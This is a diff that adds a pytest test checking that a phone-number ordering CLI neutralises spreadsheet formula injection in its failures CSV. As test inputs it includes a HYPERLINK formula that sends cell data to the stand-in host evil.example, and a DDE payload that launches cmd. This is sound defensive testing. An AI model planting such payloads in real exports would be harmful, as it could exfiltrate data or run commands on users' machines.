@@ -170,3 +170,54 @@ def test_an_import_rerun_reports_numbers_already_imported(
         set(numbers) - set(numbers[::3])
     )
     assert "4 numbers were already imported before this run" in " ".join(result.output.split())
+
+
+def test_the_failures_file_neutralises_formulas_and_keeps_numbers_as_they_are(
+    tmp_path: Path,
+) -> None:
+    """A reason quoted from the service can start with `=` (or `@`, `+`, `-`): the failures
+    file, like every CSV the CLI writes, makes it plain text for a spreadsheet; the E.164
+    numbers stay as they are."""
+    import csv
+    import io
+
+    from rich.console import Console
+
+    from sinch_qualified_numbers import QualifiedNumbersError
+    from sinch_qualified_numbers._bulk_orders import Chunk, ChunkOutcome
+    from sinch_qualified_numbers.cli._bulk_orders import Summary, in_blocks, run_orders
+    from sinch_qualified_numbers.cli._journal import Journal
+
+    numbers = ["+12025551000", "+12025551001"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    def place(todo: list[str], on_start: Any, on_done: Any) -> None:
+        chunk = Chunk("US", False, todo)
+        on_start(chunk)
+        on_done(
+            ChunkOutcome(
+                chunk,
+                failed={todo[0]: QualifiedNumbersError(formula)},
+                unknown={todo[1]: QualifiedNumbersError("@SUM(1+1)*cmd|' /C calc'!A0")},
+            )
+        )
+
+    failures = tmp_path / "numbers.txt.failures.csv"
+    summary = run_orders(
+        in_blocks(numbers),
+        500,
+        place,
+        lambda in_flight: ([], {}),
+        Summary("enabled"),
+        Journal(tmp_path / "journal.jsonl"),
+        failures,
+        Console(file=io.StringIO()),
+    )
+    assert (summary.failed, summary.unknown) == (1, 1)
+    with failures.open(newline="") as fh:
+        rows = {row["phoneNumber"]: row for row in csv.DictReader(fh)}
+    assert list(rows) == numbers  # E.164 numbers left as they are (no leading ')
+    assert rows[numbers[0]]["result"] == "failed"
+    assert rows[numbers[0]]["reason"] == "'" + formula
+    assert rows[numbers[1]]["result"] == "unknown"
+    assert rows[numbers[1]]["reason"].startswith("'@SUM(1+1)")
